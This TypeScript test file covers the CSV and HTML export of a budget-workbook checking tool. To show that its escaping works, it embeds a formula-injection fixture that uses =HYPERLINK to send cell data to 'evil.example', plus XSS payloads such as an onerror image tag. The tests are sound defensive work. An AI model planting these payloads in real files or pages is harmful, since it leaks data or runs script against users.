import { readFileSync } from 'node:fs';
import { samplePath } from '../../cli/sample';
import { readXlsx } from '../../cli/xlsx';
import { parseCsv } from '../../src/csv';
import { checkWorkbookRaw } from '../../src/engine';
import { escapeCsvCell, findingKey, findingsCsv, findingsHtml } from '../../src/export';
import { render, type Finding, type RawFinding } from '../../src/findings';

let raw: readonly RawFinding[];
let findings: readonly Finding[];

beforeAll(async () => {
  raw = checkWorkbookRaw(await readXlsx(readFileSync(samplePath()))).findings;
  findings = raw.map((f) => render(f, 'zh'));
});

/** A sample finding whose text came from a hostile workbook. */
function hostile(): Finding {
  return { ...findings[0], message: '=HYPERLINK("http://evil.example/?"&A1,"点此查看"), 合计\r\n不符', difference: '-0.01', reported: '+536.45', computed: '@SUM(D14:D17)' };
}

describe('CSV cells never run as formulas', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['+536.45', "'+536.45"],
    ['-0.01', "'-0.01"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', '"\'\rcmd"'],
    ['=HYPERLINK("http://evil","点此")', '"\'=HYPERLINK(""http://evil"",""点此"")"'],
  ])('%j is written as %j', (cell, written) => {
    expect(escapeCsvCell(cell)).toBe(written);
  });

  test('plain text and amounts are left as they are; commas, quotes and line breaks are quoted', () => {
    expect(escapeCsvCell('536.45')).toBe('536.45');
    expect(escapeCsvCell('款 20805 合计')).toBe('款 20805 合计');
    expect(escapeCsvCell('a,b')).toBe('"a,b"');
    expect(escapeCsvCell('说 "是"')).toBe('"说 ""是"""');
    expect(escapeCsvCell('两\n行')).toBe('"两\n行"');
    expect(escapeCsvCell('')).toBe('');
  });

  test('a hostile finding survives the round trip through parseCsv, each field inert', () => {
    const f = hostile();
    const rows = parseCsv(findingsCsv([f], 'zh'));
    expect(rows).toHaveLength(2);
    const [sev, kind, , sheet, cell, message, reported, computed, difference] = rows[1];
    expect([sev, kind, sheet, cell]).toEqual(['警告', '尾差', '收入总表', 'D13']);
    expect(message).toBe(`'${f.message}`);
    expect(reported).toBe("'+536.45");
    expect(computed).toBe("'@SUM(D14:D17)");
    expect(difference).toBe("'-0.01");
    expect(rows[1].every((c) => !/^[=+\-@\t\r]/.test(c))).toBe(true);
  });
});

describe('findingsCsv on the sample', () => {
  test('BOM, header and one row per finding (3 findings → 4 rows), CRLF line ends', () => {
    const csv = findingsCsv(findings, 'zh');
    expect(csv.startsWith('\uFEFF级别,性质,表,工作表,单元格,说明,填报数,计算数,差额,审核说明\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(4);
    expect(rows.every((r) => r.length === 10)).toBe(true);
    expect(rows[1]).toEqual(['警告', '尾差', '收入总表', '收入总表', 'D13', '款 20805 合计、本年收入小计、财政拨款收入 536.45 ≠ 明细 536.44（差 0.01，尾差）', '536.45', '536.44', '0.01', '']);
    // A finding covering several columns is one row, at its first column's total.
    expect(rows.slice(1).map((r) => `${r[3]}!${r[4]}`)).toEqual(['收入总表!D13', '支出总表!D13', '一般公共预算支出表!D13']);
  });

  test('English headers and words; the explanation goes to its own finding only', () => {
    const en = raw.map((f) => render(f, 'en'));
    const csv = findingsCsv(en, 'en', new Map([[findingKey(raw[1]), '已与财政局核对，四舍五入所致'], [findingKey(raw[2]), '  ']]));
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual(['Severity', 'Kind', 'Table', 'Sheet', 'Cell', 'Message', 'Reported', 'Computed', 'Difference', 'Explanation']);
    expect(rows[1].slice(0, 3)).toEqual(['warning', 'rounding', 'revenue table']);
    expect(rows.map((r) => r[9])).toEqual(['Explanation', '', '已与财政局核对，四舍五入所致', 'explained']);
  });
});

describe('findingKey', () => {
  test('one key per sample finding, the same in both languages', () => {
    const keys = raw.map(findingKey);
    expect(new Set(keys).size).toBe(3);
    // A finding covering several columns is keyed by its first column's total.
    expect(keys).toEqual(['hierarchy-sum|收入总表|D13', 'hierarchy-sum|支出总表|D13', 'hierarchy-sum|一般公共预算支出表|D13']);
    expect(raw.map((f) => findingKey(render(f, 'en')))).toEqual(keys);
  });
});

describe('findingsHtml', () => {
  test('a standalone page of the sample: charset, language, one row per finding', () => {
    const html = findingsHtml('校验报告', findings, 'zh');
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).toContain('<meta charset="utf-8">');
    expect(html).toContain('<html lang="zh-CN">');
    expect(html.match(/<tr class="warning">/g)).toHaveLength(3);
    expect(html).toContain('<th scope="col">审核说明</th>');
    expect(html).toContain('<td>收入总表</td><td>D13</td>');
    expect(html).toContain('0 个错误，3 个警告（其中 3 个尾差），0 个提示');
    expect(html).not.toMatch(/<script|<link|src=/);
  });

  test('escapes everything: a <script> in a message, the title or an explanation stays text', () => {
    const f = { ...findings[0], message: '<script>alert("x")</script>' };
    const html = findingsHtml('<script>t</script>', [f], 'en', new Map([[findingKey(f), '<img src=x onerror=alert(1)>']]));
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<img');
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(html).toContain('<title>&lt;script&gt;t&lt;/script&gt;</title>');
    expect(html).toContain('<html lang="en">');
  });
});
